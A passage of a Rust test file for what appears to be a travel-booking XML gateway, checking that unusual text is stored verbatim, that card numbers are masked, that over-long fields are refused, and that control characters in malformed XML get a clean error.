                "SELECT b.reference, b.client_reference, p.given_name, p.name_prefix, p.surname FROM activity_booking b
                 JOIN activity_booking_participant p ON p.booking_id = b.id ORDER BY b.id",
                &[],
            ))
        })
        .await
        .unwrap();
    let rows: Vec<(String, String, Names)> =
        rows.into_iter().map(|r| (r.reference, r.client_reference, (r.given_name, r.name_prefix, r.surname))).collect();
    assert_eq!(rows, made);
    let Scalar(booked): Scalar<i64> = server
        .store()
        .read(|c| {
            Box::pin(c.query_one(
                "SELECT places FROM activity_places_booked WHERE activity_id = 'LESPMIBKUI' AND product_code = 'TE0CC00A' AND service_code = 'TIC'",
                &[],
            ))
        })
        .await
        .unwrap();
    assert_eq!(booked, n as i64, "one place per booking, none twice");
}

async fn read_demo_booking(server: &TestServer) -> ota_messages::booking_read::HotelReservation {
    let xml = sample("booking_read");
    let rq = OtaReadRq::from_xml(&xml).unwrap();
    let rs = server.client().send(&rq).await.unwrap();
    assert!(rs.is_success(), "{:?}", rs.errors());
    rs.reservations_list.unwrap().hotel_reservation.remove(0)
}

/// The name of the second (not the lead) guest of a modify payload of the demo booking.
fn second_guest_name(p: &mut m::HotelResModify) -> &mut ota_messages::common::PersonName {
    let guest = &mut p.res_guests.as_mut().unwrap().res_guest[1];
    guest.profiles.as_mut().unwrap().profile_info.profile.customer.person_name.as_mut().unwrap()
}

/// A modify Commit of payload `p`, with the sample request's POS.
fn modify_commit(p: m::HotelResModify) -> OtaHotelResModifyRq {
    OtaHotelResModifyRq {
        version: "2008.1".into(),
        res_status: Some(ResStatus::Commit),
        pos: ota_messages::hotel_res_modify::OtaHotelResModifyRq::from_xml(&sample("hotel_res_modify")).unwrap().pos,
        hotel_res_modifies: m::HotelResModifies { hotel_res_modify: p },
        ..Default::default()
    }
}

async fn nasty_text_in_hotel_booking_comments_is_stored_verbatim(b: Backend) {
    let server = TestServer::start(b).await;
    let strings = nasty_strings();
    let reservation = read_demo_booking(&server).await;
    let mut p = hotels::modify_payload(&reservation).unwrap();
    // One comment per string: the string as its Name and as its text; the first also as a
    // second, language-tagged text.
    let comments: Vec<m::Comment> = strings
        .iter()
        .enumerate()
        .map(|(i, s)| m::Comment {
            name: Some(s.to_string()),
            comment_originator_code: Some("Client".into()),
            text: if i == 0 {
                vec![
                    m::CommentText { language: None, value: s.to_string() },
                    m::CommentText { language: Some("es".into()), value: strings[1].to_string() },
                ]
            } else {
                vec![m::CommentText { language: None, value: s.to_string() }]
            },
        })
        .collect();
    p.res_global_info.comments = Some(m::Comments { comment: comments.clone() });
    // A non-lead guest's name is a minor change too.
    let name = second_guest_name(&mut p);
    name.given_name = Some(strings[0].to_string());
    name.surname = Some(strings[6].to_string());
    let rq = modify_commit(p);
    // Carriage returns as the decimal reference `&#13;`.
    let xml = rq.to_xml().unwrap().replace("&#xD;", "&#13;");
    assert!(xml.contains("&#13;"));
    let (status, _, body) = server.client().send_raw("/bookmodify", xml, XML).await.unwrap();
    assert_eq!(status, StatusCode::OK, "{body}");
    let rs = OtaHotelResModifyRs::from_xml(&body).unwrap();
    assert!(rs.is_success(), "{body}");
    let answered =
        rs.hotel_res_modifies.as_ref().unwrap().hotel_res_modify.res_global_info.comments.clone().unwrap().comment;
    assert_eq!(answered, comments, "the modify's answer");
    assert_serving(&server).await;

    // Read back: exactly what was sent.
    let again = read_demo_booking(&server).await;
    assert_eq!(again.res_global_info.as_ref().unwrap().comments.as_ref().unwrap().comment, comments, "read back");
    let guest = &again.res_guests.as_ref().unwrap().res_guest[1];
    let name = guest.profiles.as_ref().unwrap().profile_info.profile.customer.person_name.as_ref().unwrap();
    assert_eq!(name.given_name.as_deref(), Some(strings[0]));
    assert_eq!(name.surname.as_deref(), Some(strings[6]));
    // And in the database.
    let texts: Vec<Scalar<String>> = server
        .store()
        .read(|c| {
            Box::pin(c.query(
                "SELECT t.text FROM hotel_booking_comment_text t JOIN hotel_booking b ON b.id = t.booking_id
                 WHERE b.internal_ref = '4471200' ORDER BY t.comment_position, t.position",
                &[],
            ))
        })
        .await
        .unwrap();
    let texts: Vec<String> = texts.into_iter().map(|Scalar(t)| t).collect();
    let mut expected: Vec<String> = strings.iter().map(|s| s.to_string()).collect();
    expected.insert(1, strings[1].to_string());
    assert_eq!(texts, expected);
}

/// A card number typed into free text that a booking stores (an activity participant's names,
/// a hotel booking's comments and guests' names) is kept, answered and read back with every digit
/// but the last four as `X`; digits that are not a card number (a phone number, a 16-digit run
/// that fails the Luhn check) stay as sent.
async fn card_numbers_in_free_text_keep_only_their_last_four_digits(b: Backend) {
    let server = TestServer::start(b).await;
    let names: Names = ("Ana 4111111111111111".into(), "Dr".into(), "pay 4111-1111-1111-1111".into());
    let masked: Names = ("Ana XXXXXXXXXXXX1111".into(), "Dr".into(), "pay XXXX-XXXX-XXXX-1111".into());
    let date = Utc::now().date_naive() + chrono::Duration::days(12);
    let (_, _, body) =
        server.client().send_raw("/activitybook", commit_xml("CARD-1", date, &names), XML).await.unwrap();
    let rs = OtaTourActivityBookRs::from_xml(&body).unwrap_or_else(|e| panic!("{e}\n{body}"));
    assert!(rs.is_success(), "{body}");
    assert_eq!(names_of(&rs), masked, "the Commit's answer");
    ota_gateway::store::row! {
        /// A participant's name as stored.
        struct StoredName { given_name: String, surname: String }
    }
    let stored: StoredName = server
        .store()
        .read(|c| {
            Box::pin(c.query_one(
                "SELECT p.given_name, p.surname FROM activity_booking b JOIN activity_booking_participant p ON p.booking_id = b.id
                 WHERE b.client_reference = 'CARD-1'",
                &[],
            ))
        })
        .await
        .unwrap();
    assert_eq!((stored.given_name, stored.surname), (masked.0, masked.2));

    let reservation = read_demo_booking(&server).await;
    let mut p = hotels::modify_payload(&reservation).unwrap();
    let comment = |text: &str| m::Comment {
        name: Some("Remarks".into()),
        comment_originator_code: Some("Client".into()),
        text: vec![m::CommentText { language: None, value: text.into() }],
    };
    let sent = "pay with 4111 1111 1111 1111 please; call +34 600 123 456; ref 4111111111111112";
    let kept = "pay with XXXX XXXX XXXX 1111 please; call +34 600 123 456; ref 4111111111111112";
    p.res_global_info.comments = Some(m::Comments { comment: vec![comment(sent)] });
    second_guest_name(&mut p).surname = Some("5500 0000 0000 0004".into());
    let (_, _, body) = server.client().send_raw("/bookmodify", modify_commit(p).to_xml().unwrap(), XML).await.unwrap();
    let rs = OtaHotelResModifyRs::from_xml(&body).unwrap();
    assert!(rs.is_success(), "{body}");
    let answered =
        rs.hotel_res_modifies.as_ref().unwrap().hotel_res_modify.res_global_info.comments.clone().unwrap().comment;
    assert_eq!(answered, vec![comment(kept)], "the modify's answer");
    let again = read_demo_booking(&server).await;
    assert_eq!(again.res_global_info.as_ref().unwrap().comments.as_ref().unwrap().comment, vec![comment(kept)]);
    let guest = &again.res_guests.as_ref().unwrap().res_guest[1];
    let name = guest.profiles.as_ref().unwrap().profile_info.profile.customer.person_name.as_ref().unwrap();
    assert_eq!(name.surname.as_deref(), Some("XXXX XXXX XXXX 0004"));
    let texts: Vec<Scalar<String>> = server
        .store()
        .read(|c| {
            Box::pin(c.query(
                "SELECT t.text FROM hotel_booking_comment_text t JOIN hotel_booking b ON b.id = t.booking_id
                 WHERE b.internal_ref = '4471200'",
                &[],
            ))
        })
        .await
        .unwrap();
    assert_eq!(texts.into_iter().map(|Scalar(t)| t).collect::<Vec<_>>(), vec![kept.to_string()]);
}

/// Free text longer than the spec allows (`common.xsd`: 64 characters for a name part, 16 for a
/// prefix, 2,000 for a comment's text and at most 5 texts per comment) is refused when the
/// request is decoded, with a clean answer naming the element (never a Type 12), and nothing is
/// stored: one length policy for the activity Commit and the hotel modify alike.
async fn free_text_over_the_spec_lengths_is_refused_and_not_stored(b: Backend) {
    let server = TestServer::start(b).await;
    let date = Utc::now().date_naive() + chrono::Duration::days(12);
    let assert_refused = |body: &str, element: &str| {
        assert!(body.contains("<Errors>"), "{element}: {body}");
        assert!(!body.contains(r#"Type="12""#), "{element}: {body}");
        assert!(body.contains(element), "{element}: {body}");
    };
    // An activity Commit with a 100,000-character GivenName, and with a 65-character Surname.
    let long = "é".repeat(100_000);
    for names in [(long, "Mr".to_string(), "Ruiz".to_string()), ("Ana".to_string(), "Mrs".to_string(), "x".repeat(65))]
    {
        let (status, _, body) =
            server.client().send_raw("/activitybook", commit_xml("LEN-1", date, &names), XML).await.unwrap();
        assert_eq!(status, StatusCode::OK, "{body}");
        assert!(OtaTourActivityBookRs::from_xml(&body).unwrap().errors().is_some(), "{body}");
        assert_refused(&body, if names.2.len() > 60 { "Surname" } else { "GivenName" });
    }
    assert_eq!(support::count(server.store(), "activity_booking").await, 0);

    // A hotel modify: 400 texts in one comment, and one text of 2,001 characters.
    let reservation = read_demo_booking(&server).await;
    let pos = OtaHotelResModifyRq::from_xml(&sample("hotel_res_modify")).unwrap().pos;
    let text = |value: String| m::CommentText { language: None, value };
    for texts in [
        (0..400).map(|i| text(format!("part {i} of a long comment"))).collect::<Vec<_>>(),
        vec![text("x".repeat(2001))],
    ] {
        let mut p = hotels::modify_payload(&reservation).unwrap();
        p.res_global_info.comments = Some(m::Comments {
            comment: vec![m::Comment { name: Some("Remarks".into()), comment_originator_code: None, text: texts }],
        });
        let rq = OtaHotelResModifyRq {
            version: "2008.1".into(),
            res_status: Some(ResStatus::Commit),
            pos: pos.clone(),
            hotel_res_modifies: m::HotelResModifies { hotel_res_modify: p },
            ..Default::default()
        };
        let (status, _, body) = server.client().send_raw("/bookmodify", rq.to_xml().unwrap(), XML).await.unwrap();
        assert_eq!(status, StatusCode::OK, "{body}");
        assert_refused(&body, "Text");
    }
    assert_eq!(read_demo_booking(&server).await, reservation, "nothing changed");
    assert_serving(&server).await;
}

// ---------------------------------------------------------------------------------------------
// Regressions found by fuzzing (fuzz/fuzz_targets/gateway.rs)

/// A control character (or U+FFFE / U+FFFF) where the XML parser reports it — in a tag name,
/// an attribute name or value, text, a comment — made the 400 answer quote the character, which
/// XML 1.0 cannot carry: the answer could not be encoded and became a Type 12 "System error,
/// please retry later" (and an ERROR log line). It must be the Type 7 "not well-formed" answer.
async fn control_characters_in_malformed_xml_get_a_clear_400(b: Backend) {
    let server = TestServer::start(b).await;
    let good = sample("product_descriptive_info");
    for c in ['\u{0}', '\u{7}', '\u{b}', '\u{19}', '\u{1b}', '\u{fffe}', '\u{ffff}'] {
        let cases = [
            ("a tag name", good.replacen("<ProductDescriptiveInfos>", &format!("<Product{c}DescriptiveInfos>"), 1)),
            ("an attribute name", good.replacen("TourActivityID=", &format!("TourActivity{c}ID="), 1)),
            ("an attribute value", good.replacen("LESPMIBKUI", &format!("LESPMI{c}BKUI"), 1)),
            ("text", good.replacen("Zoë Tours", &format!("Zoë{c} Tours"), 1)),
            ("a comment", good.replacen("<POS>", &format!("<!-- {c} --><POS>"), 1)),
        ];
        for (where_, body) in cases {
            let (status, text, _) = timed_post(&server, "/activitynbc", body).await;
            assert_eq!(status, StatusCode::BAD_REQUEST, "U+{:04X} in {where_}: {text}", c as u32);
            let rs = ota_messages::product_descriptive_info::OtaProductDescriptiveInfoRs::from_xml(&text)
                .unwrap_or_else(|e| panic!("U+{:04X} in {where_}: not an RS ({e}): {text}", c as u32));
            let error = &rs.errors().unwrap().error[0];
            assert_eq!(
                error.r#type,
                ota_messages::common::ErrorWarningType::ProtocolViolation,
                "U+{:04X} in {where_}: {text}",
                c as u32
            );
            assert!(error.value.contains("not well-formed"), "U+{:04X} in {where_}: {text}", c as u32);
        }
    }
    assert_serving(&server).await;
}

backend_tests!(
    deep_nesting_is_answered_fast,
    bodies_at_and_over_the_limit,
    fifty_mebibytes_streamed_are_cut_off_with_413,
    doctype_entities_are_refused_and_nothing_is_fetched,
    invalid_utf8_is_400,
    slow_clients_are_cut_off_and_others_are_served,
    two_thousand_idle_connections,
    idle_connections_are_closed_by_the_header_time_out,
    nasty_text_in_activity_bookings_is_stored_verbatim,
    nasty_text_in_hotel_booking_comments_is_stored_verbatim,
    card_numbers_in_free_text_keep_only_their_last_four_digits,
    free_text_over_the_spec_lengths_is_refused_and_not_stored,
    control_characters_in_malformed_xml_get_a_clear_400,
);
